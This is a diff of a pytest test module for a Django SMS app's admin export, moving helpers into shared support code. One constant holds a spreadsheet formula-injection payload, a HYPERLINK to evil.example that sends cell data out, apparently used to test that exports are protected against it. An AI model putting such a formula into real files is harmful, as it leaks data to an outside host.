@@ -5,9 +5,6 @@ import io
 from decimal import Decimal
 
 import pytest
-from django.db import connection
-from django.test.utils import CaptureQueriesContext
-from django.urls import reverse
 
 from django_smsww import State
 from django_smsww.admin import export as exporting
@@ -16,29 +13,20 @@ from django_smsww.admin.permissions import HIDDEN
 from django_smsww.models import Message
 
 from ..conftest import NUMBER
-from ..support.people import browser_of, notices, staff, text_of
+from ..support.people import LIST, browser_of, notices, selection, staff, text_of
 
-LIST = reverse("admin:django_smsww_message_changelist")
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 SEEING = ("view_message", "export_message", "view_message_content", "view_message_costs")
 pytestmark = pytest.mark.django_db
 
 
-@pytest.fixture
-def browser(db):
-    return browser_of(staff(*SEEING))
-
-
 def choose(*rows, **extra):
-    keys = [row.pk for row in rows]
-    return {"action": "export_selected", "_selected_action": keys, "index": "0", **extra}
+    return selection(*rows, action="export_selected", index="0", **extra)
 
 
 def confirm(*rows, **extra):
-    """Return what the confirmation posts."""
-    form = choose(*rows, confirmed="yes", **extra)
-    del form["index"]
-    return form
+    """Return the form of the confirmation."""
+    return selection(*rows, action="export_selected", confirmed="yes", **extra)
 
 
 def table(answer):
@@ -154,11 +142,13 @@ def test_an_endless_file_is_refused(browser, make_message, monkeypatch):
     assert "At most 2 messages" in notices(answer)[0]
 
 
-def test_a_long_file_takes_no_more_queries_and_comes_in_pieces(browser, make_message, monkeypatch):
+def test_a_long_file_takes_no_more_queries_and_comes_in_pieces(
+    browser, make_message, monkeypatch, queries
+):
     monkeypatch.setattr(exporting, "ROWS_AT_ONCE", 10)
     for _ in range(45):
         make_message()
-    with CaptureQueriesContext(connection) as queries:
+    with queries:
         answer = browser.post(LIST, confirm(Message.objects.first(), select_across="1"))
         pieces = list(answer.streaming_content)
     assert len(pieces) == 1 + 5
